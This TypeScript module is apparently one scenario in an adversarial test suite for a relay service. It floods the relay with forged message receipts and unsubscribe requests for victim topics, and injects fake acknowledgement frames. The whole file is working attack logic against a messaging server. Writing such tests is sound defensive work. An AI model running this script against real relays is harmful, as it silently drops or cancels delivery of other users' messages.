import { randomBytes } from 'node:crypto'
import type { Attack } from './Attack.ts'

/** Says of messages of others that it has them, and ends subscriptions that it has not. */
export const foreignReceipts: Attack = {
  async run({ isOver, open, pause, victimTopic }) {
    const socket = await open()
    for (let frame = 0; socket && frame < 10 && !isOver(); frame++) {
      const receipts = Array.from({ length: 500 }, () => ({
        messageId: randomBytes(32).toString('hex'),
        topic: victimTopic(),
      }))
      socket.send('irn_batchReceive', { receipts })
      socket.send('irn_unsubscribe', { id: randomBytes(32).toString('hex'), topic: victimTopic() })
      // What a socket pushes is acknowledged by its id; these are of no push.
      socket.web.send(`{"id":${Date.now() * 1000},"jsonrpc":"2.0","result":true}`)
      await pause(100)
    }
    socket?.web.terminate()
    await pause(200)
  },
}
